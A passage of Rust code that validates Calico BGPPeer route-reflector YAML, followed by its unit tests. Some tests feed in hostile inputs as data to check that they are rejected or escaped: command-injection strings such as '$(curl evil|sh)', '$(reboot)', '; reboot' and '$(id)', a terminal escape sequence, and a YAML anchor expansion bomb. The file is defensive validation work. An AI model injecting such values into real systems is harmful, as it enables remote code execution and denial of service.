                "spec.peerIP and spec.peerSelector are mutually exclusive: set one of them",
            );
        }
        if has("peerSelector") && as_number.is_some_and(|n| n != 0) {
            self.push(
                conflict,
                "spec.asNumber must be empty when spec.peerSelector is set: Calico peers with the selected nodes' own AS",
            );
        }
        if has("localWorkloadSelector") {
            if !as_invalid && as_number.is_none_or(|n| n == 0) {
                self.push(
                    conflict,
                    "spec.localWorkloadSelector needs a non-zero spec.asNumber",
                );
            }
            if has("peerIP") || has("peerSelector") {
                self.push(conflict, "spec.localWorkloadSelector cannot be combined with spec.peerIP or spec.peerSelector");
            }
        }
        if has("reachableBy") {
            match (peer_ip, reachable_by) {
                (_, None) => {}
                (None, Some(_)) if !has("peerIP") => {
                    self.push(conflict, "spec.reachableBy needs spec.peerIP: it is the gateway towards that peer")
                }
                (Some(peer), Some(gateway)) if Family::of_addr(&peer) != Family::of_addr(&gateway) => self.push(
                    conflict,
                    format!(
                        "spec.reachableBy {gateway} is {} but spec.peerIP is {}: they must be the same IP family",
                        Family::of_addr(&gateway).name(),
                        Family::of_addr(&peer).name()
                    ),
                ),
                _ => {}
            }
        }
        if spec.get("keepOriginalNextHop") == Some(&Value::Bool(true)) && has("nextHopMode") {
            self.push(
                conflict,
                "spec.keepOriginalNextHop: true and spec.nextHopMode cannot both be set: use nextHopMode: Keep alone",
            );
        }
        // A misspelt field (`peerIp`) is already reported; do not also claim the peer is missing.
        let misspelt = spec
            .keys()
            .any(|k| !KNOWN_SPEC_FIELDS.contains(&k.as_str()));
        if !has("peerIP") && !has("peerSelector") && !has("localWorkloadSelector") && !misspelt {
            self.push(
                rules::BGP_PEER_FIELD,
                "spec has no peer: set spec.peerIP (a route reflector's address) or spec.peerSelector",
            );
        }
        // A peerIP peer needs the remote AS: 0 / absent means "unset" in Calico.
        if has("peerIP") && !as_invalid {
            let example = match cluster_as {
                Some(n) => format!(
                    "e.g. {n}, the same as CALICO_BGP_AS_NUMBER, for an iBGP route reflector"
                ),
                None => "e.g. the same value as CALICO_BGP_AS_NUMBER for an iBGP route reflector"
                    .to_string(),
            };
            match as_number {
                Some(0) => self.push(
                    rules::BGP_PEER_AS_NUMBER,
                    format!(
                        "spec.asNumber 0 is not allowed for a peerIP peer: Calico reads 0 as \"unset\" and AS 0 is \
                         reserved (RFC 7607), so the session would have no remote AS; set the route reflector's \
                         real AS number, {example}"
                    ),
                ),
                None => self.push(
                    rules::BGP_PEER_AS_NUMBER,
                    format!("spec.asNumber is missing: a peerIP peer needs the route reflector's AS number, {example}"),
                ),
                Some(_) => {}
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn b64(text: &str) -> String {
        base64::engine::general_purpose::STANDARD.encode(text)
    }

    fn peer_doc(name: &str, spec: &str) -> String {
        format!(
            "apiVersion: projectcalico.org/v3\nkind: BGPPeer\nmetadata:\n  name: {name}\nspec:\n{spec}"
        )
    }

    fn errors(text: &str) -> Vec<PeerError> {
        parse_route_reflectors(&b64(text), Some(65100)).expect_err(text)
    }

    fn one_error(text: &str) -> PeerError {
        let mut errors = errors(text);
        assert_eq!(errors.len(), 1, "{errors:#?}");
        errors.remove(0)
    }

    /// The example from the design document: two global route reflectors, one with `asNumber: 0`.
    const DESIGN_DOC_EXAMPLE: &str = "apiVersion: projectcalico.org/v3
kind: BGPPeer
metadata:
  name: rr1
spec:
  peerIP: 172.16.20.1
  asNumber: 65100
---
apiVersion: projectcalico.org/v3
kind: BGPPeer
metadata:
  name: rr2
spec:
  peerIP: 172.16.20.2
  asNumber: 0
";

    #[test]
    fn design_doc_example_is_rejected_with_why_and_what_to_use() {
        let e = one_error(DESIGN_DOC_EXAMPLE);
        assert_eq!(e.rule, rules::BGP_PEER_AS_NUMBER);
        assert!(!e.about_value);
        assert!(
            e.message
                .starts_with("document 2 (BGPPeer \"rr2\"): spec.asNumber 0"),
            "{}",
            e.message
        );
        assert!(e.message.contains("\"unset\""), "{}", e.message);
        assert!(e.message.contains("RFC 7607"), "{}", e.message);
        assert!(
            e.message
                .contains("e.g. 65100, the same as CALICO_BGP_AS_NUMBER"),
            "{}",
            e.message
        );
        // Fixed: accepted, canonical JSON.
        let fixed = DESIGN_DOC_EXAMPLE.replace("asNumber: 0", "asNumber: 65100");
        let peers = parse_route_reflectors(&b64(&fixed), Some(65100)).expect("fixed example");
        assert_eq!(peers.len(), 2);
        assert_eq!(peers[1].name, "rr2");
        assert_eq!(
            Value::Object(peers[1].spec.clone()),
            serde_json::json!({"peerIP": "172.16.20.2", "asNumber": 65100})
        );
    }

    #[test]
    fn valid_peers_table() {
        let cases: &[(&str, Value)] = &[
            (
                "  peerIP: 10.0.0.1\n  asNumber: 64512\n",
                serde_json::json!({"peerIP": "10.0.0.1", "asNumber": 64512}),
            ),
            (
                "  peerIP: \"10.0.0.1:179\"\n  asNumber: \"1.10\"\n",
                serde_json::json!({"peerIP": "10.0.0.1:179", "asNumber": 65546}),
            ),
            (
                "  peerIP: '[2001:db8::1]:179'\n  asNumber: '64512'\n",
                serde_json::json!({"peerIP": "[2001:db8::1]:179", "asNumber": 64512}),
            ),
            (
                "  peerIP: 2001:db8::1\n  asNumber: 64512\n  reachableBy: 2001:db8::fe\n",
                serde_json::json!({"peerIP": "2001:db8::1", "asNumber": 64512, "reachableBy": "2001:db8::fe"}),
            ),
            (
                "  peerSelector: route-reflector == 'true'\n  nodeSelector: \"!has(route-reflector)\"\n",
                serde_json::json!({"peerSelector": "route-reflector == 'true'", "nodeSelector": "!has(route-reflector)"}),
            ),
            (
                "  peerSelector: has(rr)\n  asNumber: 0\n",
                serde_json::json!({"peerSelector": "has(rr)", "asNumber": 0}),
            ),
            // Empty strings are fields not set (all are omitempty in Calico): no conflict, and not rendered.
            (
                "  peerIP: 10.0.0.1\n  asNumber: 64512\n  node: ''\n  nodeSelector: ''\n  peerSelector: ''\n  \
                 sourceAddress: ''\n",
                serde_json::json!({"peerIP": "10.0.0.1", "asNumber": 64512}),
            ),
            (
                "  localWorkloadSelector: app == 'lb'\n  asNumber: 65001\n",
                serde_json::json!({"localWorkloadSelector": "app == 'lb'", "asNumber": 65001}),
            ),
            (
                "  node: node-1\n  peerIP: 10.0.0.1\n  asNumber: 64512\n  localASNumber: 64999\n  keepOriginalNextHop: true\n  \
                 password:\n    secretKeyRef:\n      name: bgp-secrets\n      key: rr-password\n      optional: false\n  \
                 sourceAddress: None\n  maxRestartTime: 1m30s\n  keepaliveTime: 30s\n  numAllowedLocalASNumbers: 2\n  \
                 ttlSecurity: 1\n  reachableBy: 10.0.0.254\n  filters: [export-v4, import.v4]\n  reversePeering: Manual\n",
                serde_json::json!({
                    "node": "node-1", "peerIP": "10.0.0.1", "asNumber": 64512, "localASNumber": 64999,
                    "keepOriginalNextHop": true,
                    "password": {"secretKeyRef": {"name": "bgp-secrets", "key": "rr-password", "optional": false}},
                    "sourceAddress": "None", "maxRestartTime": "1m30s", "keepaliveTime": "30s",
                    "numAllowedLocalASNumbers": 2, "ttlSecurity": 1, "reachableBy": "10.0.0.254",
                    "filters": ["export-v4", "import.v4"], "reversePeering": "Manual"
                }),
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 64512\n  nextHopMode: Self\n",
                serde_json::json!({"peerIP": "10.0.0.1", "asNumber": 64512, "nextHopMode": "Self"}),
            ),
        ];
        for (spec, want) in cases {
            let text = peer_doc("rr-1.example", spec);
            let peers = parse_route_reflectors(&b64(&text), None)
                .unwrap_or_else(|e| panic!("{spec}: {e:#?}"));
            assert_eq!(peers.len(), 1);
            assert_eq!(peers[0].name, "rr-1.example");
            assert_eq!(&Value::Object(peers[0].spec.clone()), want, "{spec}");
        }
    }

    #[test]
    fn empty_value_means_no_peers_and_empty_yaml_is_rejected() {
        assert_eq!(parse_route_reflectors("", None), Ok(vec![]));
        for text in ["", "---\n", "# only a comment\n", "~\n---\n"] {
            let e = parse_route_reflectors(&b64(text), None);
            let rule = if text.is_empty() {
                None
            } else {
                Some(rules::ROUTE_REFLECTORS_EMPTY)
            };
            match rule {
                None => assert_eq!(e, Ok(vec![])),
                Some(r) => assert_eq!(e.expect_err(text)[0].rule, r, "{text:?}"),
            }
        }
    }

    #[test]
    fn null_documents_keep_user_numbering() {
        let text = format!("---\n---\n{}", DESIGN_DOC_EXAMPLE);
        let e = one_error(&text);
        assert!(
            e.message.starts_with("document 3 (BGPPeer \"rr2\")"),
            "{}",
            e.message
        );
    }

    #[test]
    fn encoding_table() {
        let good = b64(&peer_doc("rr1", "  peerIP: 10.0.0.1\n  asNumber: 64512\n"));
        let wrapped = {
            let mut s = good.clone();
            s.insert(20, '\n');
            s
        };
        let cases: Vec<(String, &str, &str)> = vec![
            (
                wrapped,
                rules::ROUTE_REFLECTORS_ENCODING,
                "line break or space at position 21",
            ),
            (
                format!("{good} "),
                rules::ROUTE_REFLECTORS_ENCODING,
                "line break or space",
            ),
            (
                format!(" {good}"),
                rules::ROUTE_REFLECTORS_ENCODING,
                "position 1",
            ),
            (
                good.replace('+', "-").replace('/', "_") + "-",
                rules::ROUTE_REFLECTORS_ENCODING,
                "URL-safe",
            ),
            (
                good.trim_end_matches('=').to_string() + "=",
                rules::ROUTE_REFLECTORS_ENCODING,
                "base64",
            ),
            (
                "not base64!".to_string(),
                rules::ROUTE_REFLECTORS_ENCODING,
                "base64",
            ),
            (
                "apiVersion: projectcalico.org/v3\nkind: BGPPeer\n".to_string(),
                rules::ROUTE_REFLECTORS_ENCODING,
                "is YAML, not base64: set it to the output of `base64 -w 0 peers.yaml`",
            ),
            (
                "---\n- a".to_string(),
                rules::ROUTE_REFLECTORS_ENCODING,
                "is YAML, not base64",
            ),
            (
                "$(id)".to_string(),
                rules::ROUTE_REFLECTORS_ENCODING,
                "base64",
            ),
            ("YQ".to_string(), rules::ROUTE_REFLECTORS_ENCODING, "base64"),
            (
                base64::engine::general_purpose::STANDARD.encode([0xff, 0xfe, 0x00]),
                rules::ROUTE_REFLECTORS_ENCODING,
                "UTF-8",
            ),
            (
                "A".repeat(MAX_ENCODED_LEN + 4),
                rules::ROUTE_REFLECTORS_LIMIT,
                "too long",
            ),
            (
                b64(&"#".repeat(MAX_DECODED_LEN + 1)),
                rules::ROUTE_REFLECTORS_LIMIT,
                "at most 64 KiB",
            ),
        ];
        for (raw, rule, text) in cases {
            let e = parse_route_reflectors(&raw, None).expect_err(&raw);
            assert_eq!(e.len(), 1);
            assert_eq!(e[0].rule, rule, "{}", e[0].message);
            assert!(e[0].about_value);
            assert!(e[0].message.contains(text), "{}", e[0].message);
        }
    }

    #[test]
    fn yaml_hostile_table() {
        let bomb = "a: &a [\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n\
                    c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n";
        let many_docs =
            peer_doc("rr", "  peerIP: 10.0.0.1\n  asNumber: 1\n") + &"--- 1\n".repeat(10_000);
        let cases: Vec<(String, &str, &str)> = vec![
            (
                bomb.to_string(),
                rules::ROUTE_REFLECTORS_YAML_FEATURE,
                "anchor",
            ),
            (
                "spec: *x\n".to_string(),
                rules::ROUTE_REFLECTORS_YAML_FEATURE,
                "alias",
            ),
            (
                format!(
                    "{}\n  <<: {{asNumber: 1}}\n",
                    peer_doc("rr", "  peerIP: 10.0.0.1")
                ),
                rules::ROUTE_REFLECTORS_YAML_FEATURE,
                "merge key",
            ),
            (
                "!!binary aGVsbG8=\n".to_string(),
                rules::ROUTE_REFLECTORS_YAML_FEATURE,
                "tag",
            ),
            (
                peer_doc("rr", "  peerIP: !custom 10.0.0.1\n  asNumber: 1\n"),
                rules::ROUTE_REFLECTORS_YAML_FEATURE,
                "a tag (!name), which is not accepted (nothing may expand or change type); remove the tag",
            ),
            (
                "%YAML 1.2\n---\na: 1\n".to_string(),
                rules::ROUTE_REFLECTORS_YAML,
                "YAML",
            ),
            (
                many_docs,
                rules::ROUTE_REFLECTORS_LIMIT,
                "more than 50 YAML documents",
            ),
            (
                format!("{}1{}", "[".repeat(100), "]".repeat(100)),
                rules::ROUTE_REFLECTORS_YAML,
                "YAML",
            ),
            (
                (0..20)
                    .map(|i| format!("{}k{i}:\n", "  ".repeat(i)))
                    .collect::<String>(),
                rules::ROUTE_REFLECTORS_LIMIT,
                "nested deeper",
            ),
            (
                "a: [1, 2\n".to_string(),
                rules::ROUTE_REFLECTORS_YAML,
                "not valid YAML",
            ),
            (
                "a: 1\na: 2\n".to_string(),
                rules::ROUTE_REFLECTORS_YAML,
                "not valid YAML",
            ),
            (
                "key: \"unterminated\n".to_string(),
                rules::ROUTE_REFLECTORS_YAML,
                "not valid YAML",
            ),
            (
                "a: b: c\n".to_string(),
                rules::ROUTE_REFLECTORS_YAML,
                "not valid YAML",
            ),
        ];
        for (text, rule, needle) in cases {
            let e = parse_route_reflectors(&b64(&text), None).expect_err(&text);
            assert_eq!(e.len(), 1, "{e:#?}");
            assert_eq!(
                e[0].rule,
                rule,
                "{}: {}",
                text.chars().take(80).collect::<String>(),
                e[0].message
            );
            assert!(e[0].message.contains(needle), "{}", e[0].message);
            assert!(!e[0].message.contains('\n'), "{}", e[0].message);
        }
    }

    #[test]
    fn document_shape_table() {
        let valid_spec = "  peerIP: 10.0.0.1\n  asNumber: 64512\n";
        let cases: Vec<(String, &str, &str)> = vec![
            (
                "- a\n- b\n".to_string(),
                rules::BGP_PEER_KIND,
                "document 1: is a list, not a BGPPeer mapping",
            ),
            ("hello\n".to_string(), rules::BGP_PEER_KIND, "is a string"),
            (
                peer_doc("rr1", valid_spec)
                    .replace("projectcalico.org/v3", "crd.projectcalico.org/v1"),
                rules::BGP_PEER_KIND,
                "use projectcalico.org/v3",
            ),
            (
                peer_doc("rr1", valid_spec).replace("apiVersion: projectcalico.org/v3\n", ""),
                rules::BGP_PEER_KIND,
                "apiVersion is missing",
            ),
            (
                peer_doc("rr1", valid_spec).replace("kind: BGPPeer", "kind: BgpPeer"),
                rules::BGP_PEER_KIND,
                "did you mean \"BGPPeer\"?",
            ),
            (
                peer_doc("rr1", valid_spec).replace("kind: BGPPeer", "kind: BGPConfiguration"),
                rules::BGP_PEER_KIND,
                "only BGPPeer",
            ),
            (
                peer_doc("rr1", valid_spec).replace("kind: BGPPeer\n", ""),
                rules::BGP_PEER_KIND,
                "kind is missing",
            ),
            (
                format!("{}status: {{}}\n", peer_doc("rr1", valid_spec)),
                rules::BGP_PEER_KIND,
                "unknown top-level field \"status\"",
            ),
            (
                peer_doc("rr1", valid_spec)
                    .replace("  name: rr1\n", "  name: rr1\n  labels: {a: b}\n"),
                rules::BGP_PEER_KIND,
                "metadata.labels is not accepted",
            ),
            (
                peer_doc("RR_1", valid_spec),
                rules::BGP_PEER_NAME,
                "document 1 (BGPPeer \"RR_1\"): metadata.name \"RR_1\" is not a valid name",
            ),
            (
                peer_doc("rr1", valid_spec).replace("  name: rr1\n", "  name: 12\n"),
                rules::BGP_PEER_NAME,
                "not a string",
            ),
            (
                peer_doc("rr1", valid_spec).replace("metadata:\n  name: rr1\n", ""),
                rules::BGP_PEER_NAME,
                "metadata.name is missing",
            ),
            (
                peer_doc("x", valid_spec).replace("name: x", &format!("name: {}", "a".repeat(254))),
                rules::BGP_PEER_NAME,
                "at most 253",
            ),
            (
                peer_doc("rr1", "  []\n"),
                rules::BGP_PEER_FIELD,
                "spec is a list",
            ),
            (
                peer_doc("rr1", "").trim_end_matches("spec:\n").to_string(),
                rules::BGP_PEER_FIELD,
                "spec is missing",
            ),
            (
                format!(
                    "{}---\n{}",
                    peer_doc("rr1", valid_spec),
                    peer_doc("rr1", valid_spec)
                ),
                rules::BGP_PEER_DUPLICATE_NAME,
                "document 2 (BGPPeer \"rr1\"): metadata.name is used by an earlier document",
            ),
        ];
        for (text, rule, needle) in cases {
            let e = one_error(&text);
            assert_eq!(e.rule, rule, "{text}\n{}", e.message);
            assert!(e.message.contains(needle), "{}", e.message);
        }
    }

    /// A duplicate name is reported even when a document has other problems, so one pass lists everything; a key
    /// given twice is explained without the YAML library's advice to its caller.
    #[test]
    fn duplicates_are_reported_with_the_other_problems() {
        let text = format!(
            "{}---\n{}",
            peer_doc("rr1", "  peerIP: 10.0.0.1\n  asNumber: 0\n"),
            peer_doc("rr1", "  peerIP: 10.0.0.2\n  asNumber: 64512\n")
        );
        let rules_seen: Vec<&str> = errors(&text).iter().map(|e| e.rule).collect();
        assert!(
            rules_seen.contains(&rules::BGP_PEER_AS_NUMBER),
            "{rules_seen:?}"
        );
        assert!(
            rules_seen.contains(&rules::BGP_PEER_DUPLICATE_NAME),
            "{rules_seen:?}"
        );

        let e = one_error(&peer_doc(
            "rr1",
            "  peerIP: 10.0.0.1\n  peerIP: 10.0.0.2\n  asNumber: 1\n",
        ));
        assert_eq!(e.rule, rules::ROUTE_REFLECTORS_YAML);
        assert!(e.message.contains("duplicate mapping key"), "{}", e.message);
        assert!(
            e.message.contains("(a key is given twice in one mapping)"),
            "{}",
            e.message
        );
        assert!(!e.message.contains("DuplicateKeyPolicy"), "{}", e.message);
    }

    #[test]
    fn spec_field_table() {
        let cases: &[(&str, &str, &str)] = &[
            (
                "  peerIp: 10.0.0.1\n  asNumber: 1\n",
                rules::BGP_PEER_UNKNOWN_FIELD,
                "spec.peerIp is not a BGPPeer field: did you mean \"peerIP\"? known fields: node, nodeSelector, peerIP",
            ),
            (
                "  peerIP: 10.0.0.1\n  asnumber: 1\n",
                rules::BGP_PEER_UNKNOWN_FIELD,
                "did you mean \"asNumber\"?",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  color: red\n",
                rules::BGP_PEER_UNKNOWN_FIELD,
                "spec.color is not a BGPPeer field: known fields",
            ),
            (
                "  peerIP: 10.0.0.1/32\n  asNumber: 1\n",
                rules::BGP_PEER_FIELD,
                "spec.peerIP \"10.0.0.1/32\" is not a peer address",
            ),
            // Other fields set to "" are still checked: not a BGPPeer field, not a mapping, not a number.
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  peerIp: ''\n",
                rules::BGP_PEER_UNKNOWN_FIELD,
                "spec.peerIp is not a BGPPeer field",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  password: ''\n",
                rules::BGP_PEER_FIELD,
                "spec.password",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  ttlSecurity: ''\n",
                rules::BGP_PEER_FIELD,
                "spec.ttlSecurity",
            ),
            // A whole number too large for the parser is out of range, not an unquoted asdot number.
            (
                "  peerIP: 10.0.0.1\n  asNumber: 99999999999999999999\n",
                rules::BGP_PEER_AS_NUMBER,
                "is out of range: the largest usable AS number is 2147483647",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: -99999999999999999999\n",
                rules::BGP_PEER_AS_NUMBER,
                "must not be negative",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1.5\n",
                rules::BGP_PEER_AS_NUMBER,
                "write an asdot AS number as a quoted string",
            ),
            (
                "  peerIP: '[2001:db8::1]'\n  asNumber: 1\n",
                rules::BGP_PEER_FIELD,
                "needs a :port",
            ),
            (
                "  peerIP: 10.0.0.1:70000\n  asNumber: 1\n",
                rules::BGP_PEER_FIELD,
                "invalid port",
            ),
            (
                "  peerIP: 10.0.0.1; reboot\n  asNumber: 1\n",
                rules::BGP_PEER_FIELD,
                "not a peer address",
            ),
            (
                "  peerIP: 10\n  asNumber: 1\n",
                rules::BGP_PEER_FIELD,
                "spec.peerIP 10 is a number, not a string",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1.10\n",
                rules::BGP_PEER_AS_NUMBER,
                "quoted string, e.g. \"1.10\"",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: -5\n",
                rules::BGP_PEER_AS_NUMBER,
                "negative",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 064512\n",
                rules::BGP_PEER_AS_NUMBER,
                "not an AS number",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 64_512\n",
                rules::BGP_PEER_AS_NUMBER,
                "not an AS number",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 4294967295\n",
                rules::BGP_PEER_AS_NUMBER,
                "int32",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: \"AS65000\"\n",
                rules::BGP_PEER_AS_NUMBER,
                "not an AS number",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: [1]\n",
                rules::BGP_PEER_AS_NUMBER,
                "is a list, not an AS number",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  localASNumber: 0\n",
                rules::BGP_PEER_AS_NUMBER,
                "spec.localASNumber 0 is not allowed",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  keepOriginalNextHop: yes\n",
                rules::BGP_PEER_FIELD,
                "spec.keepOriginalNextHop \"yes\" is not a boolean",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  nextHopMode: self\n",
                rules::BGP_PEER_FIELD,
                "did you mean \"Self\"?",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  reversePeering: auto\n",
                rules::BGP_PEER_FIELD,
                "did you mean \"Auto\"?",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  sourceAddress: useNodeIP\n",
                rules::BGP_PEER_FIELD,
                "did you mean \"UseNodeIP\"?",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  maxRestartTime: 120\n",
                rules::BGP_PEER_FIELD,
                "spec.maxRestartTime 120 is a number, not a duration: write it with its unit, e.g. \"120s\"",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  maxRestartTime: 2 minutes\n",
                rules::BGP_PEER_FIELD,
                "Go duration",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  keepaliveTime: -1s\n",
                rules::BGP_PEER_FIELD,
                "sign",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  ttlSecurity: 256\n",
                rules::BGP_PEER_FIELD,
                "from 0 to 255",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  ttlSecurity: -1\n",
                rules::BGP_PEER_FIELD,
                "from 0 to 255",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  numAllowedLocalASNumbers: 2147483648\n",
                rules::BGP_PEER_FIELD,
                "from 0 to 2147483647",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  reachableBy: 10.0.0.0/24\n",
                rules::BGP_PEER_FIELD,
                "not an IP address",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  filters: [Bad_Name]\n",
                rules::BGP_PEER_FIELD,
                "not a valid BGPFilter name",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  filters: f1\n",
                rules::BGP_PEER_FIELD,
                "not a list",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  node: Node_1\n",
                rules::BGP_PEER_FIELD,
                "not a valid node name",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  nodeSelector: rack = 'a'\n",
                rules::BGP_PEER_SELECTOR,
                "is not a valid Calico selector: use \"==\" for equality (near \"=\") at position 6",
            ),
            (
                "  peerSelector: $(reboot)\n",
                rules::BGP_PEER_SELECTOR,
                "not a valid Calico selector",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  password: hunter2\n",
                rules::BGP_PEER_FIELD,
                "not a mapping",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  password:\n    secretKeyRef:\n      name: s\n",
                rules::BGP_PEER_FIELD,
                "secretKeyRef.key is missing",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  password:\n    secretKeyRef:\n      name: S!\n      key: k\n",
                rules::BGP_PEER_FIELD,
                "not a valid Secret name",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  password:\n    secretKeyRef:\n      name: s\n      key: k\n      namespace: x\n",
                rules::BGP_PEER_UNKNOWN_FIELD,
                "secretKeyRef.namespace is not a field",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  password:\n    value: x\n",
                rules::BGP_PEER_UNKNOWN_FIELD,
                "password.value is not a field",
            ),
        ];
        for (spec, rule, needle) in cases {
            let text = peer_doc("rr1", spec);
            let all = errors(&text);
            let e = all
                .iter()
                .find(|e| e.rule == *rule)
                .unwrap_or_else(|| panic!("{spec}: {all:#?}"));
            assert!(
                e.message.starts_with("document 1 (BGPPeer \"rr1\"): "),
                "{}",
                e.message
            );
            assert!(e.message.contains(needle), "{spec}\n{}", e.message);
        }
    }

    #[test]
    fn cross_field_rules_table() {
        let cases: &[(&str, &str, &str)] = &[
            (
                "  node: n1\n  nodeSelector: all()\n  peerIP: 10.0.0.1\n  asNumber: 1\n",
                rules::BGP_PEER_CONFLICT,
                "node and spec.nodeSelector are mutually exclusive",
            ),
            (
                "  peerIP: 10.0.0.1\n  peerSelector: all()\n  asNumber: 1\n",
                rules::BGP_PEER_CONFLICT,
                "peerIP and spec.peerSelector are mutually exclusive",
            ),
            (
                "  peerSelector: has(rr)\n  asNumber: 64512\n",
                rules::BGP_PEER_CONFLICT,
                "asNumber must be empty when spec.peerSelector is set",
            ),
            (
                "  localWorkloadSelector: has(a)\n",
                rules::BGP_PEER_CONFLICT,
                "localWorkloadSelector needs a non-zero spec.asNumber",
            ),
            (
                "  localWorkloadSelector: has(a)\n  asNumber: 0\n",
                rules::BGP_PEER_CONFLICT,
                "localWorkloadSelector needs a non-zero spec.asNumber",
            ),
            (
                "  localWorkloadSelector: has(a)\n  asNumber: 1\n  peerIP: 10.0.0.1\n",
                rules::BGP_PEER_CONFLICT,
                "cannot be combined with spec.peerIP",
            ),
            (
                "  peerSelector: has(a)\n  reachableBy: 10.0.0.254\n",
                rules::BGP_PEER_CONFLICT,
                "reachableBy needs spec.peerIP",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  reachableBy: 2001:db8::1\n",
                rules::BGP_PEER_CONFLICT,
                "reachableBy 2001:db8::1 is IPv6 but spec.peerIP is IPv4",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: 1\n  keepOriginalNextHop: true\n  nextHopMode: Keep\n",
                rules::BGP_PEER_CONFLICT,
                "cannot both be set",
            ),
            ("  asNumber: 1\n", rules::BGP_PEER_FIELD, "spec has no peer"),
            (
                "  peerIP: 10.0.0.1\n",
                rules::BGP_PEER_AS_NUMBER,
                "spec.asNumber is missing: a peerIP peer needs the route reflector's AS number, e.g. 65100",
            ),
            (
                "  peerIP: 10.0.0.1\n  asNumber: \"0.0\"\n",
                rules::BGP_PEER_AS_NUMBER,
                "spec.asNumber 0 is not allowed for a peerIP peer",
            ),
        ];
        for (spec, rule, needle) in cases {
            let all = errors(&peer_doc("rr1", spec));
            let e = all
                .iter()
                .find(|e| e.rule == *rule)
                .unwrap_or_else(|| panic!("{spec}: {all:#?}"));
            assert!(e.message.contains(needle), "{spec}\n{}", e.message);
        }
        // keepOriginalNextHop: false with nextHopMode is fine.
        let ok = peer_doc(
            "rr1",
            "  peerIP: 10.0.0.1\n  asNumber: 1\n  keepOriginalNextHop: false\n  nextHopMode: Keep\n",
        );
        assert!(parse_route_reflectors(&b64(&ok), None).is_ok());
    }

    #[test]
    fn misspelt_field_is_the_only_complaint() {
        let e = one_error(&peer_doc("rr1", "  peerIp: 10.0.0.1\n  asNumber: 65100\n"));
        assert_eq!(e.rule, rules::BGP_PEER_UNKNOWN_FIELD);
        assert_eq!(
            e.message,
            "document 1 (BGPPeer \"rr1\"): spec.peerIp is not a BGPPeer field: did you mean \"peerIP\"? known fields: \
             node, nodeSelector, peerIP, asNumber, localASNumber, peerSelector, keepOriginalNextHop, nextHopMode, \
             password, sourceAddress, maxRestartTime, keepaliveTime, numAllowedLocalASNumbers, ttlSecurity, \
             reachableBy, filters, localWorkloadSelector, reversePeering"
        );
    }

    #[test]
    fn all_problems_of_all_documents_are_collected() {
        let text = format!(
            "{}---\n{}",
            peer_doc(
                "rr1",
                "  peerIp: 10.0.0.1\n  asNumber: 0\n  ttlSecurity: 999\n"
            ),
            peer_doc("Bad", "  peerIP: 10.0.0.2\n  asNumber: 70000000000\n")
        );
        let all = errors(&text);
        let rules_seen: Vec<&str> = all.iter().map(|e| e.rule).collect();
        assert!(
            rules_seen.contains(&rules::BGP_PEER_UNKNOWN_FIELD),
            "{all:#?}"
        );
        assert!(rules_seen.contains(&rules::BGP_PEER_FIELD), "{all:#?}");
        assert!(rules_seen.contains(&rules::BGP_PEER_NAME), "{all:#?}");
        assert!(rules_seen.contains(&rules::BGP_PEER_AS_NUMBER), "{all:#?}");
        assert!(
            all.iter()
                .any(|e| e.message.starts_with("document 2 (BGPPeer \"Bad\")")),
            "{all:#?}"
        );
        assert_eq!(all.len(), 4, "{all:#?}");
    }

    #[test]
    fn hostile_values_in_fields_are_escaped() {
        let text = peer_doc(
            "rr1",
            "  peerIP: \"10.0.0.1\\n$(curl evil|sh)\\u001b[2J\"\n  asNumber: 1\n",
        );
        let e = one_error(&text);
        assert!(
            !e.message.contains('\n') && !e.message.contains('\u{1b}'),
            "{}",
            e.message
        );
        assert!(
            e.message.contains("\\n$(curl evil|sh)\\u{001b}"),
            "{}",
            e.message
        );
    }

    #[test]
    fn fifty_documents_accepted() {
        let text: String = (0..MAX_DOCUMENTS)
            .map(|i| {
                format!(
                    "---\n{}",
                    peer_doc(
                        &format!("rr{i}"),
                        &format!(
                            "  peerIP: 10.0.{}.{}\n  asNumber: 65100\n",
